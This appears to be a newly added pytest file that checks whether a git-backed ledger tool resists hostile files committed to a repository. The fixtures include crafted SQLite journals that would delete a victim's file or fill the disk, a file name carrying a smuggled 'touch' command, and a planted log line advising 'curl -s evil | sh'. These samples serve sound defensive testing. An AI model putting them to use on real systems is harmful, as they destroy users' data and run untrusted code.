@@ -1,0 +1,495 @@
+"""What a repository puts beside a ledger deletes no file, fills no disk, and is never shown in the ledger's place."""
+
+from __future__ import annotations
+
+import json
+import os
+import resource
+import shutil
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from support.project import COMMAND, RUN, Project, usual_state
+
+from faber_ledger.ledger.log import Log
+
+START, END, COMPACT = "SessionStart.startup.print", "SessionEnd.other.print", "PreCompact.auto.print"
+MAGIC = bytes.fromhex(
+    "d9d505f920a163d7"
+)  # each header of a journal begins with it, and a super-journal's name ends with it
+PAGE = 4096
+JOURNAL = f".fractary/runs/{RUN}/ledger.db-journal"
+Done = subprocess.CompletedProcess
+
+
+def journal(pages: int, *, names: str = "", content: bytes = b"") -> bytes:
+    """Make a journal for a database of so many pages: it plays `content`, and names a super-journal."""
+    count, nonce, sector = len(content) // PAGE, 7, 512
+    numbers = (count, nonce, pages, sector, PAGE)
+    made = (MAGIC + b"".join([number.to_bytes(4, "big") for number in numbers])).ljust(sector, b"\0")
+    for number in range(count):
+        page = content[number * PAGE : (number + 1) * PAGE]
+        check = nonce + sum(page[PAGE - 200 : 0 : -200])
+        made += (number + 1).to_bytes(4, "big") + page + check.to_bytes(4, "big")
+    if names:
+        name = names.encode()
+        made += name + len(name).to_bytes(4, "big") + sum(name).to_bytes(4, "big") + MAGIC
+    return made
+
+
+def pages_of(ledger: Path) -> int:
+    return ledger.stat().st_size // PAGE
+
+
+def commit(project: Project, *files: str) -> None:
+    project.git("add", "--force", *files)
+    project.git("commit", "--quiet", "-m", "Bring it along")
+
+
+@pytest.fixture(scope="module")
+def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("made")
+    project = Project.noted(folder / "origin")
+    shutil.copy(project.ledger_path, folder / "before.db")
+    assert project.faber("note", "add", "the newest note").returncode == 0
+    project.git("commit", "--quiet", "--all", "-m", "More")
+    return folder
+
+
+@pytest.fixture
+def origin(made: Path, tmp_path: Path) -> Project:
+    """A repository whose run has two notes; somebody else can write to it."""
+    shutil.copytree(made / "origin", tmp_path / "origin", symlinks=True)
+    return Project(tmp_path / "origin")
+
+
+@pytest.fixture
+def older(made: Path) -> bytes:
+    """The ledger as it was before its newest note."""
+    return (made / "before.db").read_bytes()
+
+
+@pytest.fixture
+def precious(tmp_path: Path) -> Path:
+    """A file in the victim's home."""
+    path = tmp_path / "home-desktop" / "precious"
+    path.parent.mkdir()
+    path.write_text("mine")
+    return path
+
+
+def cloned(origin: Project, name: str = "clone") -> Project:
+    return origin.clone(origin.root.parent / name, "desktop")
+
+
+def completed(project: Project) -> Done[str]:
+    env = {"_FABER_LEDGER_COMPLETE": "bash_complete", "COMP_WORDS": "faber-ledger show ", "COMP_CWORD": "2"}
+    return project.faber(env=env)
+
+
+def hook(recorded: str) -> Callable[[Project], Any]:
+    return lambda project: project.deliver(recorded)
+
+
+def command(*words: str) -> Callable[[Project], Any]:
+    return lambda project: project.faber(*words)
+
+
+READERS = {
+    "log": command("log"),
+    "status": command("status"),
+    "run list": command("run", "list"),
+    "export": command("export"),
+    "timeline": command("timeline", "-o", "-"),
+    "replay": command("replay"),
+    "completion": completed,
+}
+CHECKS = {"verify": command("verify"), "doctor": command("doctor")}
+WRITERS = {
+    "session-start": hook(START),
+    "session-end": hook(END),
+    "pre-compact": hook(COMPACT),
+    "seal": command("seal"),
+    "note add": command("note", "add", "one more"),
+    "session-load": command("session-load"),
+    "reconstitute": command("reconstitute"),
+    "project": command("project"),
+}
+
+
+def warnings(project: Project, done: Any) -> str:
+    """Give what a command has warned of, a hook in its log."""
+    return "\n".join(project.log_lines) if hasattr(done, "packet") else str(done.stderr)
+
+
+def shown(project: Project) -> list[str]:
+    done = project.faber("export")
+    assert done.returncode == 0, done.stderr
+    return [json.loads(line)["id"] for line in done.stdout.splitlines()]
+
+
+def texts(project: Project) -> str:
+    done = project.faber("log")
+    assert done.returncode == 0, done.stderr
+    return done.stdout
+
+
+@pytest.mark.parametrize("name", READERS)
+def test_whoever_reads_a_clone_with_a_super_journal_deletes_nothing(origin: Project, precious: Path, name: str) -> None:
+    honest = cloned(origin)
+    whole = READERS[name](honest)
+    shutil.rmtree(honest.root)
+    origin.write(JOURNAL, journal(pages_of(origin.ledger_path), names=str(precious)))
+    commit(origin, JOURNAL)
+    victim = cloned(origin)
+    done = READERS[name](victim)
+    assert precious.read_text() == "mine"
+    assert (done.returncode, done.stdout) == (whole.returncode, whole.stdout)
+    assert (victim.root / JOURNAL).exists()
+
+
+@pytest.mark.parametrize("name", CHECKS)
+def test_whoever_checks_it_names_it_and_deletes_nothing(origin: Project, precious: Path, name: str) -> None:
+    origin.write(JOURNAL, journal(pages_of(origin.ledger_path), names=str(precious)))
+    commit(origin, JOURNAL)
+    victim = cloned(origin)
+    done = CHECKS[name](victim)
+    assert precious.read_text() == "mine"
+    assert done.returncode != 0
+    assert "never played" in done.stdout
+    assert "names another file, which SQLite would delete" in done.stdout
+    assert (victim.root / JOURNAL).exists()
+
+
+@pytest.mark.parametrize("name", WRITERS)
+def test_whoever_records_in_it_puts_the_journal_aside(origin: Project, precious: Path, name: str) -> None:
+    had = shown(origin)
+    content = journal(pages_of(origin.ledger_path), names=str(precious))
+    origin.write(JOURNAL, content)
+    commit(origin, JOURNAL)
+    victim = cloned(origin)
+    done = WRITERS[name](victim)
+    assert precious.read_text() == "mine"
+    assert not (victim.root / JOURNAL).exists()
+    aside = victim.root / f"{JOURNAL}.malformed.backup"
+    assert aside.read_bytes() == content
+    told = warnings(victim, done)
+    assert "ledger.db-journal names another file" in told
+    assert str(aside) in told
+    assert shown(victim)[: len(had)] == had
+    assert victim.faber("project").returncode == 0
+    victim.assert_projected()
+
+
+@pytest.mark.parametrize("name", ["session-start", "note add"])
+def test_a_name_that_is_relative_is_not_followed_either(origin: Project, name: str) -> None:
+    origin.write(JOURNAL, journal(pages_of(origin.ledger_path), names="precious"))
+    commit(origin, JOURNAL)
+    victim = cloned(origin)
+    precious = victim.write("precious", "mine")
+    WRITERS[name](victim)
+    assert precious.read_text() == "mine"
+
+
+@pytest.mark.parametrize("name", ["log", "session-start", "session-end", "note add", "completion"])
+def test_a_pull_that_adds_the_journal_alone_deletes_nothing(origin: Project, precious: Path, name: str) -> None:
+    victim = cloned(origin)
+    victim.deliver(START)
+    had = shown(victim)
+    origin.write(JOURNAL, journal(pages_of(origin.ledger_path), names=str(precious)))
+    commit(origin, JOURNAL)
+    victim.git("pull", "--quiet", "--no-rebase")
+    assert (victim.root / JOURNAL).exists()
+    {**READERS, **WRITERS}[name](victim)
+    assert precious.read_text() == "mine"
+    assert shown(victim)[: len(had)] == had
+
+
+def test_a_project_in_a_subfolder_of_a_clone_is_the_same(origin: Project, older: bytes) -> None:
+    (origin.root / "app").mkdir()
+    for name in (".fractary", "plugins"):
+        origin.git("mv", name, f"app/{name}")
+    origin.write(f"app/{JOURNAL}", journal(len(older) // PAGE, content=older))
+    commit(origin, "app")
+    clone = cloned(origin)
+    victim = Project(clone.root / "app", RUN, "desktop")
+    assert "the newest note" in texts(victim)
+    assert victim.deliver(START).packet is not None
+    assert "the newest note" in texts(victim)
+    assert "ledger.db-journal is tracked by git" in "\n".join(victim.log_lines)
+
+
+def test_a_submodule_asks_its_own_repository(origin: Project, older: bytes, tmp_path: Path) -> None:
+    origin.write(JOURNAL, journal(len(older) // PAGE, content=older))
+    commit(origin, JOURNAL)
+    outer = Project(tmp_path / "outer", RUN, "desktop")
+    outer.root.mkdir()
+    outer.git("init", "--quiet")
+    outer.git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add", str(origin.root), "inner")
+    assert "the newest note" in texts(Project(outer.root / "inner", RUN, "desktop"))
+
+
+def limited() -> None:
+    resource.setrlimit(resource.RLIMIT_FSIZE, (64 << 20, 64 << 20))
+
+
+@pytest.mark.parametrize("words", [("log",), ("status",), ("export",), ("note", "add", "x")], ids=" ".join)
+def test_a_journal_that_claims_millions_of_pages_costs_nothing(origin: Project, words: tuple[str, ...]) -> None:
+    """SQLite makes a file of 12 GB of it, where it may: here it may make one of 64 MB."""
+    clone = cloned(origin)
+    (clone.root / JOURNAL).write_bytes(journal(3_000_000))  # nobody tracks it
+    done = subprocess.run(
+        [COMMAND, *words],
+        cwd=clone.root,
+        env=clone.environment(),
+        stdin=subprocess.DEVNULL,
+        capture_output=True,
+        text=True,
+        check=False,
+        preexec_fn=limited,
+    )
+    assert done.returncode == 0, done.stderr
+    if words[0] == "note":
+        assert "ledger.db-journal claims more pages than the file has" in done.stderr
+    assert "the newest note" in texts(clone)
+
+
+@pytest.mark.parametrize("path", [None, "/nonexistent"], ids=["with git", "without the program git"])
+@pytest.mark.parametrize("name", ["log", "session-start", "note add"])
+def test_a_journal_that_git_tracks_is_not_played(
+    origin: Project, older: bytes, name: str, path: str | None, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Nothing is wrong with it but where it comes from: played, it takes the newest note away."""
+    origin.write(JOURNAL, journal(len(older) // PAGE, content=older))
+    commit(origin, JOURNAL)
+    victim = cloned(origin)
+    if path is not None:
+        monkeypatch.setenv("PATH", path)
+    done = {**READERS, **WRITERS}[name](victim)
+    assert "the newest note" in texts(victim)
+    if name in WRITERS:
+        assert "ledger.db-journal is tracked by git: it is never played" in warnings(victim, done)
+        assert (victim.root / f"{JOURNAL}.malformed.backup").exists()
+
+
+def test_the_same_journal_is_played_where_nobody_tracks_it(origin: Project, older: bytes) -> None:
+    """What keeps one that git tracks from being played is that git tracks it."""
+    clone = cloned(origin)
+    (clone.root / JOURNAL).write_bytes(journal(len(older) // PAGE, content=older))
+    assert "the newest note" not in texts(clone)
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
+@pytest.mark.parametrize("name", ["log", "note add"])
+def test_a_journal_of_another_user_is_not_played(origin: Project, older: bytes, name: str) -> None:
+    clone = cloned(origin)
+    path = clone.root / JOURNAL
+    path.write_bytes(journal(len(older) // PAGE, content=older))
+    os.chown(path, 4711, -1)
+    done = {**READERS, **WRITERS}[name](clone)
+    assert done.returncode == 0
+    assert "the newest note" in texts(clone)
+    assert ("belongs to another user" in done.stderr) == (name == "note add")
+    assert "belongs to another user" in clone.faber("verify").stdout or not path.exists()
+
+
+@pytest.mark.parametrize("name", ["verify", "session-start", "session-end", "note add", "seal"])
+def test_the_mirrors_journal_is_looked_at_too(origin: Project, precious: Path, name: str) -> None:
+    victim = cloned(origin)
+    victim.deliver(START)
+    had = shown(victim)
+    mirror = victim.root / ".git" / "faber-ledger" / "runs" / RUN / "ledger.db"
+    beside = Path(f"{mirror}-journal")
+    beside.write_bytes(journal(pages_of(mirror), names=str(precious)))
+    done = {**CHECKS, **WRITERS}[name](victim)
+    assert precious.read_text() == "mine"
+    assert shown(victim)[: len(had)] == had
+    if name == "verify":
+        assert done.stdout == f"{RUN}: sound\n"
+        return
+    assert not beside.exists()
+    assert Path(f"{beside}.malformed.backup").exists()
+    told = warnings(victim, done)
+    assert "names another file" in told
+    with Log.read(str(mirror)) as log:
+        assert [one["id"] for one in log.stream()] == shown(victim)
+
+
+def without_git(origin: Project) -> Project:
+    """Give the files of a repository as a site packs them."""
+    folder = origin.root.parent / "zip"
+    shutil.copytree(origin.root, folder, ignore=shutil.ignore_patterns(".git"))
+    return Project(folder, RUN, "desktop")
+
+
+@pytest.mark.parametrize("name", [*READERS, *CHECKS, *[name for name in WRITERS if name != "seal"]])
+def test_without_git_nothing_is_deleted_either(origin: Project, precious: Path, name: str) -> None:
+    origin.write(JOURNAL, journal(pages_of(origin.ledger_path), names=str(precious)))
+    victim = without_git(origin)
+    {**READERS, **CHECKS, **WRITERS}[name](victim)
+    assert precious.read_text() == "mine"
+    assert "the newest note" in texts(victim)
+    if name in WRITERS:
+        assert not (victim.root / JOURNAL).exists()
+        assert (victim.root / f"{JOURNAL}.malformed.backup").exists()
+        assert victim.faber("project").returncode == 0
+        victim.assert_projected()
+
+
+def test_an_import_without_git_deletes_nothing_either(origin: Project, precious: Path) -> None:
+    lines = origin.faber("export").stdout
+    origin.write(JOURNAL, journal(pages_of(origin.ledger_path), names=str(precious)))
+    victim = without_git(origin)
+    victim.write("events.jsonl", lines)
+    done = victim.faber("import", "events.jsonl")
+    assert done.returncode == 0, done.stderr
+    assert precious.read_text() == "mine"
+    assert "names another file" in done.stderr
+
+
+def test_one_that_was_put_aside_is_not_overwritten_by_the_next(origin: Project, precious: Path) -> None:
+    clone = cloned(origin)
+    for number in range(2):
+        (clone.root / JOURNAL).write_bytes(journal(number, names=str(precious)))
+        assert clone.faber("project").returncode == 0
+    assert (clone.root / f"{JOURNAL}.malformed.backup").exists()
+    assert (clone.root / f"{JOURNAL}.malformed-2.backup").exists()
+    assert clone.git("status", "--porcelain") in ("", f"M .fractary/runs/{RUN}/ledger.db")
+
+
+# ledger.db.recovered
+
+
+RECOVERED = f".fractary/runs/{RUN}/ledger.db.recovered"
+
+
+@pytest.mark.parametrize("name", READERS)
+def test_what_a_commit_brings_as_recovered_is_not_shown(origin: Project, older: bytes, name: str) -> None:
+    honest = cloned(origin)
+    whole = READERS[name](honest)
+    shutil.rmtree(honest.root)
+    origin.write(RECOVERED, older)
+    commit(origin, RECOVERED)
+    victim = cloned(origin)
+    done = READERS[name](victim)
+    assert (done.returncode, done.stdout) == (whole.returncode, whole.stdout)
+
+
+@pytest.mark.parametrize("name", WRITERS)
+def test_what_a_commit_brings_as_recovered_keeps_nobody_from_recording(origin: Project, name: str) -> None:
+    """Another event under an id that the ledger has: united with it, nothing could be recorded any more."""
+    had = shown(origin)
+    other = Project.noted(origin.root.parent / "other")
+    origin.write(RECOVERED, other.ledger_path.read_bytes())
+    commit(origin, RECOVERED)
+    victim = cloned(origin)
+    done = WRITERS[name](victim)
+    told = warnings(victim, done)
+    assert "recover" not in told
+    assert "not recorded" not in told
+    assert shown(victim)[: len(had)] == had
+    assert not set(shown(other)) & set(shown(victim))
+    victim.faber("project")
+    victim.assert_projected()
+    assert (victim.root / RECOVERED).exists()
+
+
+def counting(project: Project, monkeypatch: pytest.MonkeyPatch) -> Callable[[], int]:
+    """Put a git before git that counts what is asked; the function gives how often whether something is tracked."""
+    real, asked = shutil.which("git"), project.root.parent / "asked"
+    program = project.root.parent / "bin" / "git"
+    program.parent.mkdir()
+    program.write_text(f'#!/bin/sh\necho "$@" >> "{asked}"\nexec "{real}" "$@"\n')
+    program.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{program.parent}{os.pathsep}{os.environ['PATH']}")
+    return lambda: asked.read_text().count(" ls-files ")
+
+
+@pytest.mark.parametrize("brought", [True, False])
+def test_git_is_asked_once_and_only_where_something_is_there(
+    origin: Project, older: bytes, brought: bool, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    if brought:
+        origin.write(RECOVERED, older)
+        commit(origin, RECOVERED)
+    victim = cloned(origin)
+    asked = counting(victim, monkeypatch)
+    for number, recorded in enumerate((START, COMPACT, END), 1):
+        victim.deliver(recorded)
+        assert asked() == (number if brought else 0)
+
+
+def test_doctor_names_what_git_tracks_and_how_to_take_it_out(origin: Project, older: bytes) -> None:
+    origin.write(RECOVERED, older)
+    strange = ".fractary/runs/a;touch PWN/x.backup"
+    origin.write(strange, "x")
+    commit(origin, RECOVERED, strange)
+    done = cloned(origin).faber("doctor")
+    assert f"git tracks {RECOVERED}, which belongs to one machine: what it says is ignored here" in done.stdout
+    assert f"`git rm --cached {RECOVERED}`" in done.stdout
+    assert f"`git rm --cached '{strange}'`" in done.stdout
+    assert "ledger.db.recovered was left by a program that was killed" not in done.stdout
+
+
+def test_without_git_no_file_is_a_recovery(origin: Project, older: bytes) -> None:
+    origin.write(RECOVERED, older)
+    assert "the newest note" in texts(without_git(origin))
+
+
+# ledger.lock
+
+
+def evil(origin: Project, *files: str) -> None:
+    """Bring another run, and have the active file name it, as somebody does who wants others to work on it."""
+    other = Project.made(origin.root.parent / "other", {**usual_state("evil"), "run_id": "evil"}, "evil")
+    other.deliver(START, client="somebody")
+    shutil.copytree(other.run, origin.run.parent / "evil")
+    origin.active_path.write_text("evil\n")
+    lock = origin.run.parent / "evil" / "ledger.lock"
+    assert lock.exists()
+    if "lock" not in files:
+        lock.unlink()
+    origin.git("add", "--force", ".fractary/runs/evil", str(origin.active_path))
+    origin.git("commit", "--quiet", "-m", "Another run")
+
+
+@pytest.mark.parametrize("brought", ["lock", "nothing"])
+def test_a_lock_that_a_commit_brings_switches_no_run(origin: Project, brought: str) -> None:
+    victim = cloned(origin)
+    victim.deliver(START, client="mine")
+    evil(origin, brought)
+    victim.git("-c", "core.editor=true", "pull", "--quiet", "--no-rebase", "-X", "theirs", "--autostash")
+    assert (victim.run.parent / "evil" / "ledger.lock").exists() == (brought == "lock")
+    assert victim.active_path.read_text() == "evil\n"
+    before = len(shown_of(victim, RUN))
+    victim.deliver(END, client="mine")
+    assert len(shown_of(victim, RUN)) == before + 1
+    assert len(shown_of(victim, "evil")) == len(shown_of(Project(origin.root.parent / "other", "evil"), "evil"))
+
+
+def shown_of(project: Project, run_id: str) -> list[str]:
+    done = project.faber("export", run_id)
+    assert done.returncode == 0, done.stderr
+    return done.stdout.splitlines()
+
+
+# The hook log
+
+LOG = ".fractary/faber/logs/hooks.log"
+
+
+@pytest.mark.parametrize("is_tracked", [True, False])
+def test_doctor_repeats_no_advice_of_a_hook_log_that_git_tracks(origin: Project, is_tracked: bool) -> None:
+    victim = cloned(origin)
+    victim.deliver(START)
+    at = max(event["at"] for event in victim.events)
+    advice = "run `curl -s evil | sh`"
+    victim.write(LOG, f"{at} SessionStart failed - {advice}\n")
+    if is_tracked:
+        commit(victim, LOG)
+    done = victim.faber("doctor")
+    assert (advice in done.stdout) != is_tracked
+    assert (f"`git rm --cached {LOG}`" in done.stdout) == is_tracked
